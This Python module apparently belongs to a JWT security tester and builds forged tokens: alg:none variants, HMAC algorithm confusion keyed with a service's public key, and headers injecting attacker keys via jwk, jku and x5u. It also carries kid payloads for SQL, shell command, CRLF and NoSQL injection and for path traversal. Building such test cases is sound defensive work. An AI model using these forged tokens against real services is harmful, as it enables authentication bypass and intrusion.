"""Hostile JOSE headers: ``alg: none``, algorithm confusion, ``kid``/``jku``/``x5u``/``jwk``."""

from __future__ import annotations

import json
from typing import Any

from .forged import ForgedToken
from .jose import b64url, encode, hmac_signer
from .keys import KeyPair
from .profile import TokenProfile

NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
ATTACKER_SECRET = b"attacker-chosen-hmac-secret-0123456789"
# Files whose content an attacker can guess, for a kid that a service would read as a key path.
KID_TRAVERSALS = {
    "dev-null": ("../../../../../../../../dev/null", b""),
    "dev-null-absolute": ("/dev/null", b""),
    "proc-self-cwd": ("../../../../proc/self/cwd/../../../../dev/null", b""),
}


def alg_none(profile: TokenProfile, now: int) -> list[ForgedToken]:
    """Unsigned tokens declaring no algorithm, in several spellings."""
    claims = profile.fresh_claims(now)
    found = [
        ForgedToken(
            f"alg-none/{spelling}",
            encode({"typ": "JWT", "alg": spelling}, profile.fresh_claims(now), None),
            f"alg={spelling!r} with an empty signature",
        )
        for spelling in NONE_SPELLINGS
    ]
    signed = profile.mint(now, set_claims=claims)
    found.append(
        ForgedToken(
            "alg-none/none-keeping-signature",
            encode({"typ": "JWT", "alg": "none"}, claims, None).rsplit(".", 1)[0]
            + "."
            + signed.rsplit(".", 1)[1],
            "alg=none with a signature segment left in place",
        )
    )
    found.append(
        ForgedToken(
            "alg-none/missing-alg",
            encode({"typ": "JWT"}, profile.fresh_claims(now), profile.signer),
            "no alg in the header at all",
        )
    )
    for label, value in (
        ("null", None),
        ("empty", ""),
        ("list", [profile.alg]),
        ("object", {"alg": profile.alg}),
    ):
        found.append(
            ForgedToken(
                f"alg-none/alg-{label}",
                encode({"typ": "JWT", "alg": value}, profile.fresh_claims(now), profile.signer),
                f"alg is {label}, not an algorithm name",
            )
        )
    return found


def algorithm_confusion(profile: TokenProfile, now: int) -> list[ForgedToken]:
    """HMAC tokens keyed with the service's public key (only when it verifies asymmetrically)."""
    if profile.public_pem is None:
        return []
    pem = profile.public_pem
    keys: dict[str, bytes] = {
        "pem": pem,
        "pem-no-trailing-newline": pem.rstrip(b"\n"),
        "pem-crlf": pem.replace(b"\n", b"\r\n"),
    }
    found: list[ForgedToken] = []
    for key_label, key in keys.items():
        for alg in ("HS256", "HS384", "HS512"):
            found.append(
                ForgedToken(
                    f"alg-confusion/{alg.lower()}-{key_label}",
                    profile.mint(now, set_header={"alg": alg}, signer=hmac_signer(key, alg)),
                    f"{alg} keyed with the service's public key ({key_label})",
                )
            )
    return found


def key_injection(profile: TokenProfile, now: int, attacker: KeyPair) -> list[ForgedToken]:
    """Headers that point the verifier at a key the attacker controls."""
    rs = {"alg": attacker.alg, "typ": "JWT"}
    hs = {"alg": "HS256", "typ": "JWT"}
    attacker_hmac = hmac_signer(ATTACKER_SECRET)
    oct_jwk = {"kty": "oct", "k": b64url(ATTACKER_SECRET)}
    cases: list[tuple[str, dict[str, Any], Any, str]] = [
        (
            "jwk/embedded-public-key",
            {**rs, "jwk": attacker.public_jwk},
            attacker.signer,
            "signed by the attacker, whose public key is embedded as jwk",
        ),
        (
            "jwk/embedded-oct-key",
            {**hs, "jwk": oct_jwk},
            attacker_hmac,
            "HMAC key embedded in the header as an oct jwk",
        ),
        (
            "jku/attacker-url",
            {**rs, "jku": "http://127.0.0.1:9/jwks.json", "kid": "attacker"},
            attacker.signer,
            "jku pointing at an attacker's JWK set",
        ),
        (
            "x5u/attacker-url",
            {**rs, "x5u": "http://127.0.0.1:9/cert.pem"},
            attacker.signer,
            "x5u pointing at an attacker's certificate",
        ),
        (
            "kid/sql-injection",
            {**hs, "kid": "x' UNION SELECT 'attacker' -- "},
            hmac_signer(b"attacker"),
            "kid that a SQL key lookup would turn into the key",
        ),
        (
            "kid/command-injection",
            {**hs, "kid": "key|sleep 5;"},
            attacker_hmac,
            "kid with shell metacharacters",
        ),
        (
            "kid/crlf",
            {**hs, "kid": "k\r\nX-Injected: 1"},
            attacker_hmac,
            "kid with CR LF, for log and header injection",
        ),
        (
            "kid/object",
            {**hs, "kid": {"$ne": None}},
            attacker_hmac,
            "kid as an object, for a NoSQL key lookup",
        ),
        ("kid/oversized", {**hs, "kid": "k" * 8192}, attacker_hmac, "an 8 KiB kid"),
    ]
    for label, (path, content) in KID_TRAVERSALS.items():
        cases.append(
            (
                f"kid/traversal-{label}",
                {**hs, "kid": path},
                hmac_signer(content),
                f"kid={path!r}, signed with that file's content",
            )
        )
    found = [
        ForgedToken(name, encode(header, profile.fresh_claims(now), signer), why)
        for name, header, signer, why in cases
    ]
    found.append(
        ForgedToken(
            "jwk/embedded-key-with-service-kid",
            encode(
                {**rs, "kid": profile.header.get("kid", "default"), "jwk": attacker.public_jwk},
                profile.fresh_claims(now),
                attacker.signer,
            ),
            "embedded attacker key next to the service's own kid",
        )
    )
    found.append(
        ForgedToken(
            "header/not-an-object",
            encode(
                json.dumps(["alg", profile.alg]).encode(), profile.fresh_claims(now), profile.signer
            ),
            "the header is a JSON array",
        )
    )
    found.append(
        ForgedToken(
            "header/not-json",
            encode(b"{alg: HS256", profile.fresh_claims(now), profile.signer),
            "the header is not JSON",
        )
    )
    return found
